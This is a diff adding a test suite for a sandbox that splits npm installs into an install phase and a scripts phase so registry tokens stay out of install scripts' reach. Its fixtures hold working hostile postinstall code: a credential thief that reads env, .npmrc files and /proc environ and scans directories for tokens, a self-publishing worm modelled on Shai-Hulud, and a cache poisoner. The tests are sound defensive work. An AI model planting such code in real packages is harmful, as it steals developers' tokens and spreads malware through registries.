@@ -1,0 +1,208 @@
+// Two-phase installs (SPEC §7): a private registry's token is usable by npm to download
+// and invisible to every install script. Against a verdaccio that refuses anonymous
+// reads; each attack is run once with bare npm too, where it must succeed.
+//
+// Runs as the fixture user sp-other, whose ~/.npmrc holds the token (the attack suite
+// uses sp-test).
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { existsSync, readFileSync, rmSync, writeFileSync, chownSync, readdirSync } from 'node:fs';
+import { join } from 'node:path';
+import { startRegistry, type TestRegistry } from '../../support/registry.js';
+import { uniqueName } from '../../support/fixture-packages.js';
+import { baseEnv, fixtureUser, makeProject, runCli } from '../../support/cli.js';
+
+const user = fixtureUser('sp-other');
+let registry: TestRegistry;
+const thief = uniqueName('token-thief');
+const poisoner = uniqueName('cache-poisoner');
+const plain = uniqueName('plain-dep');
+
+// Looks everywhere an install script can look for a registry token, and tries to use
+// whatever it finds to publish itself (the Shai-Hulud worm). Everything it saw goes to a
+// file in its own folder, which the test searches for the real token.
+function thiefScript(registryUrl: string, wormName: string): string {
+  return `
+const fs = require('fs'), path = require('path'), cp = require('child_process');
+const seen = [];
+const add = (label, text) => seen.push('== ' + label + '\\n' + text);
+add('env', JSON.stringify(process.env));
+const tryRead = (p) => { try { add(p, fs.readFileSync(p, 'utf8')); } catch (e) {} };
+const home = process.env.HOME || '';
+for (const p of [home + '/.npmrc', '/usr/etc/npmrc', '/etc/npmrc', path.resolve(process.cwd(), '../../.npmrc'), '/home/${user.name}/.npmrc']) tryRead(p);
+try { add('npm config', cp.execFileSync('npm', ['config', 'list', '--json'], { encoding: 'utf8', timeout: 20000 })); } catch (e) {}
+for (const pid of fs.readdirSync('/proc').filter((d) => /^\\d+$/.test(d))) { tryRead('/proc/' + pid + '/environ'); tryRead('/proc/' + pid + '/cmdline'); }
+const walk = (dir, depth) => { if (depth > 6) return; let es; try { es = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
+  for (const e of es) { const p = path.join(dir, e.name); if (e.isDirectory()) walk(p, depth + 1); else if (e.isFile()) { try { const t = fs.readFileSync(p, 'latin1'); if (/authToken|Bearer|_auth/.test(t)) add(p, t); } catch (x) {} } } };
+walk(home, 0); walk('/tmp', 0); if (process.env.npm_config_cache) walk(process.env.npm_config_cache, 0);
+fs.writeFileSync(path.join(__dirname, 'seen.txt'), seen.join('\\n'));
+// Worm: publish a package of its own with whatever credentials npm has.
+try {
+  const dir = fs.mkdtempSync(path.join(require('os').tmpdir(), 'worm-'));
+  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: '${wormName}', version: '1.0.0' }));
+  cp.execFileSync('npm', ['publish', '--registry', '${registryUrl}', '--ignore-scripts'], { cwd: dir, stdio: 'ignore', timeout: 30000 });
+  fs.writeFileSync(path.join(__dirname, 'published'), 'yes');
+} catch (e) {}
+`;
+}
+
+const POISON = `
+const fs = require('fs'), path = require('path');
+const cache = process.env.npm_config_cache || path.join(process.env.HOME, '.npm');
+let wrote = false;
+try { fs.mkdirSync(path.join(cache, '_cacache'), { recursive: true }); fs.writeFileSync(path.join(cache, 'POISONED'), 'x'); wrote = true; } catch (e) {}
+fs.writeFileSync(path.join(__dirname, 'poison-result'), wrote ? 'wrote' : 'refused');
+`;
+
+before(async () => {
+  registry = await startRegistry({ auth: true });
+  await registry.publishFixtures([
+    { name: plain, files: { 'index.js': 'module.exports = 1;' } },
+    { name: thief, dependencies: { [plain]: '^1.0.0' }, scripts: { postinstall: 'node steal.js' }, files: { 'steal.js': thiefScript(registry.url, `${thief}-worm-jail`) } },
+    { name: `${thief}-bare`, scripts: { postinstall: 'node steal.js' }, files: { 'steal.js': thiefScript(registry.url, `${thief}-worm-bare`) } },
+    { name: poisoner, scripts: { postinstall: 'node poison.js' }, files: { 'poison.js': POISON } },
+  ]);
+  writeFileSync(join(user.home, '.npmrc'), registry.npmrc({ auth: true }), { mode: 0o600 });
+  chownSync(join(user.home, '.npmrc'), user.uid, user.gid);
+});
+
+after(async () => {
+  rmSync(join(user.home, '.npmrc'), { force: true });
+  rmSync(join(user.home, '.cache'), { recursive: true, force: true });
+  rmSync(join(user.home, '.npm'), { recursive: true, force: true });
+  await registry?.stop();
+});
+
+function project(): string {
+  return makeProject(user, { 'package.json': JSON.stringify({ name: 'app', version: '1.0.0' }) });
+}
+
+/** Bare npm as the same user, with the same home and environment. */
+function bareNpm(args: string[], cwd: string, env: Record<string, string> = {}): Promise<number | null> {
+  return new Promise((resolve) => {
+    const child = spawn('npm', args, { cwd, env: { ...baseEnv(user), ...env }, uid: user.uid, gid: user.gid, stdio: 'ignore' });
+    child.on('close', (code) => resolve(code));
+  });
+}
+
+async function published(name: string): Promise<boolean> {
+  const res = await fetch(`${registry.url}${name}`, { headers: { authorization: `Bearer ${registry.token}` } });
+  return res.status === 200;
+}
+
+test('an install succeeds with the token from ~/.npmrc, and no install script can find it', async () => {
+  const cwd = project();
+  const r = await runCli(['npm', 'install', thief, '--no-audit', '--no-fund'], { cwd, user });
+  assert.equal(r.status, 0, r.stderr);
+  assert.ok(existsSync(join(cwd, 'node_modules', plain, 'index.js')), 'the dependency was not installed');
+  const seen = readFileSync(join(cwd, 'node_modules', thief, 'seen.txt'), 'utf8');
+  assert.ok(seen.length > 1000, 'the thief did not run');
+  assert.ok(!seen.includes(registry.token), 'an install script found the token');
+  assert.ok(!existsSync(join(cwd, 'node_modules', thief, 'published')));
+  assert.equal(await published(`${thief}-worm-jail`), false, 'the worm published itself');
+  assert.match(r.stderr, /install \+ scripts/);
+  assert.doesNotMatch(r.stderr + r.stdout, new RegExp(registry.token.slice(0, 20)));
+});
+
+test('bare npm: the same install script finds the token and publishes itself (the test can fail)', async () => {
+  const cwd = project();
+  const code = await bareNpm(['install', `${thief}-bare`, '--no-audit', '--no-fund'], cwd);
+  assert.equal(code, 0);
+  const seen = readFileSync(join(cwd, 'node_modules', `${thief}-bare`, 'seen.txt'), 'utf8');
+  assert.ok(seen.includes(registry.token));
+  assert.equal(await published(`${thief}-worm-bare`), true);
+});
+
+test('a token referenced as ${NPM_TOKEN} works for npm and stays out of scripts\' reach', async () => {
+  const npmrc = join(user.home, '.npmrc');
+  const original = readFileSync(npmrc, 'utf8');
+  writeFileSync(npmrc, original.replace(registry.token, '${NPM_TOKEN}'));
+  try {
+    const cwd = project();
+    const r = await runCli(['npm', 'install', thief, '--no-audit', '--no-fund'], { cwd, user, env: { NPM_TOKEN: registry.token } });
+    assert.equal(r.status, 0, r.stderr);
+    const seen = readFileSync(join(cwd, 'node_modules', thief, 'seen.txt'), 'utf8');
+    assert.ok(!seen.includes(registry.token));
+    assert.match(seen, /== env/, 'the thief did not run');
+  } finally {
+    writeFileSync(npmrc, original);
+  }
+});
+
+test('an install script cannot write into the cache; the next install is unaffected', async () => {
+  const cwd = project();
+  const r = await runCli(['npm', 'install', poisoner, '--no-audit', '--no-fund'], { cwd, user });
+  assert.equal(r.status, 0, r.stderr);
+  assert.equal(readFileSync(join(cwd, 'node_modules', poisoner, 'poison-result'), 'utf8'), 'refused');
+  const cache = join(user.home, '.cache', 'safe-package', 'npm');
+  assert.ok(existsSync(cache) && readdirSync(cache).length > 0, 'the install phase did fill the cache');
+  assert.ok(!existsSync(join(cache, 'POISONED')));
+  const again = project();
+  const r2 = await runCli(['npm', 'install', plain, '--no-audit', '--no-fund'], { cwd: again, user });
+  assert.equal(r2.status, 0, r2.stderr);
+  // Bare npm: the same script writes into the user's own cache.
+  const bare = project();
+  assert.equal(await bareNpm(['install', poisoner, '--no-audit', '--no-fund'], bare), 0);
+  assert.equal(readFileSync(join(bare, 'node_modules', poisoner, 'poison-result'), 'utf8'), 'wrote');
+});
+
+test('npm run gets no credentials at all', async () => {
+  const cwd = makeProject(user, { 'package.json': JSON.stringify({ name: 'app', version: '1.0.0', scripts: { show: 'cat ~/.npmrc; env' } }) });
+  const r = await runCli(['npm', 'run', 'show'], { cwd, user, env: { NPM_TOKEN: registry.token } });
+  assert.equal(r.status, 0, r.stderr);
+  assert.ok(!r.stdout.includes(registry.token));
+  assert.match(r.stdout, /registry=/);
+});
+
+test('--ignore-scripts: one phase, no script runs', async () => {
+  const cwd = project();
+  const r = await runCli(['--report', join(cwd, 'report.json'), 'npm', 'install', thief, '--ignore-scripts', '--no-audit', '--no-fund'], { cwd, user });
+  assert.equal(r.status, 0, r.stderr);
+  assert.ok(!existsSync(join(cwd, 'node_modules', thief, 'seen.txt')));
+  const report = JSON.parse(readFileSync(join(cwd, 'report.json'), 'utf8')) as { phases: string[] };
+  assert.deepEqual(report.phases, ['install']);
+});
+
+test('--explain shows both phases and what each one gets', async () => {
+  const cwd = project();
+  const r = await runCli(['--explain', '--json', 'npm', 'ci'], { cwd, user });
+  const doc = JSON.parse(r.stdout) as { phases: { name: string; network: string; credentials: boolean; cache_writable: boolean }[] };
+  assert.deepEqual(
+    doc.phases.map((p) => [p.name, p.network, p.credentials, p.cache_writable]),
+    [
+      ['install', 'policy', true, true],
+      ['scripts', 'allowed-hosts-only', false, false],
+    ],
+  );
+  assert.ok(!r.stdout.includes(registry.token));
+});
+
+test('an install script reaching for a host is refused and named; --allow-host lets it through in the scripts phase only', async () => {
+  const fetcher = uniqueName('prebuilt-fetcher');
+  // Like prebuild-install: fetch a binary through the proxy the environment names.
+  const script = `
+const http = require('http'); const fs = require('fs'); const path = require('path');
+const proxy = new URL(process.env.HTTP_PROXY || 'http://127.0.0.1:1');
+const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'GET', path: '${registry.url}-/ping', headers: { host: '${registry.host}' } }, (res) => {
+  fs.writeFileSync(path.join(__dirname, 'status'), String(res.statusCode)); res.resume();
+});
+req.on('error', (e) => fs.writeFileSync(path.join(__dirname, 'status'), 'error ' + e.code));
+req.end();`;
+  await registry.publishFixture({ name: fetcher, scripts: { postinstall: 'node fetch.js' }, files: { 'fetch.js': script } });
+  const cwd = project();
+  const r = await runCli(['--report', join(cwd, 'r.json'), 'npm', 'install', fetcher, '--no-audit', '--no-fund'], { cwd, user });
+  assert.equal(r.status, 0, r.stderr);
+  assert.equal(readFileSync(join(cwd, 'node_modules', fetcher, 'status'), 'utf8'), '403');
+  const report = JSON.parse(readFileSync(join(cwd, 'r.json'), 'utf8')) as { network: { blocked: { host: string; port: number; phase?: string; suggestion?: string }[] } };
+  const b = report.network.blocked.find((x) => x.port === registry.port);
+  assert.ok(b, JSON.stringify(report.network));
+  assert.equal(b.phase, 'scripts');
+  assert.equal(b.suggestion, `--allow-host ${registry.host}`);
+  assert.match(r.stderr, new RegExp(`127.0.0.1:${registry.port} \\(from an install script\\)`));
+
+  const allowed = project();
+  const r2 = await runCli(['--allow-host', registry.host, 'npm', 'install', fetcher, '--no-audit', '--no-fund'], { cwd: allowed, user });
+  assert.equal(r2.status, 0, r2.stderr);
+  assert.equal(readFileSync(join(allowed, 'node_modules', fetcher, 'status'), 'utf8'), '200');
+});
